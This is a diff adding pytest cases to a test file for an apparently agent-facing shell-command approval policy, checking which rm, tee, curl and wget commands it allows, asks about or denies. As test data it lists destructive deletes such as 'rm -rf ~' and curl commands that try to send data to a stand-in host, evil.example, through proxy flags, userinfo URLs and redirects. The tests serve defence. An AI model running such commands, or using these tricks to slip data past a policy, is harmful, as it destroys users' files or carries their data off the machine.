@@ -6,7 +6,7 @@ from hypothesis import strategies as st
 
 from allstop.core.allowing.places import resolve
 from allstop.core.allowing.policy import Policy, Verdict, of_paths, weigh
-from allstop.core.approvals import Decision, Rule
+from allstop.core.approvals import BOX, Decision, Rule
 from allstop.core.shell_words import Line, Redirect, Simple, of_words, unfit
 
 ALLOW, ASK, DENY = Decision.ALLOW, Decision.ASK, Decision.DENY
@@ -266,6 +266,57 @@ def test_k18_within_a_box_only_rules_have_something_against_a_command(command, d
     policy = Policy(workspace="/home/ann/project", rules=rules, within=True)
 
     assert weigh(policy, of_words(tuple(command.split()))).decision is decision
+
+
+@pytest.mark.parametrize(
+    ("command", "decision"),
+    [
+        ("tee /tmp/out.txt", ALLOW),
+        ("rm -rf /tmp/build", ALLOW),
+        ("rm -rf /tmp", DENY),
+        ("rm -rf /var/tmp/build", DENY),
+        ("rm -rf /tmp/../home", DENY),
+        ("rm -rf ~", DENY),
+    ],
+)
+def test_k18_within_a_box_its_temporary_folder_is_its_own(command, decision):
+    policy = Policy(workspace="/home/ann/project", within=True)
+
+    assert weigh(policy, of_words(tuple(command.split()))).decision is decision
+
+
+def test_k18_within_a_box_rules_allow_a_line_only_if_they_allow_all_of_it():
+    """K18: what the box alone allows, an agent may still want to ask about."""
+    policy = Policy(workspace="/home/ann/project", within=True)
+    looks, more, makes = (Simple(words=(word,)) for word in ("ls", "pwd", "make"))
+
+    assert weigh(policy, Line(commands=(looks, more))).rule != BOX
+    assert weigh(policy, Line(commands=(looks, makes))).rule == BOX
+    assert weigh(policy, Line(commands=(looks,), why="it goes on by itself")).rule == BOX
+
+
+def test_k18_without_a_box_the_temporary_folder_is_everybodys():
+    assert weigh(POLICY, of_words(("rm", "-rf", "/tmp/build"))).decision is DENY
+
+
+@pytest.mark.parametrize(
+    ("command", "decision"),
+    [
+        ("curl -s -X POST -H x:y -d a=b http://localhost:3000/api", ASK),
+        ("curl --json {} 127.0.0.1:8000", ASK),
+        ("curl -d a=b http://localhost.evil.example", DENY),
+        ("curl -d a=b http://localhost evil.example", DENY),
+        ("curl -d a=b -x evil.example http://localhost", DENY),
+        ("curl -d a=b --proxy=evil.example http://localhost", DENY),
+        ("curl -L -d a=b http://localhost", DENY),
+        ("curl -d a=b http://localhost@evil.example", DENY),
+        ("curl -d a=b -d", DENY),
+        ("wget --post-data a=b http://localhost", DENY),
+    ],
+)
+def test_k18_data_for_a_server_of_this_machine_is_not_carried_away(command, decision):
+    """K18: an agent tries what it has built; every word of that must be known."""
+    assert weigh(POLICY, of_words(tuple(command.split()))).decision is decision
 
 
 def test_k18_within_a_box_a_line_that_is_not_understood_is_as_free():
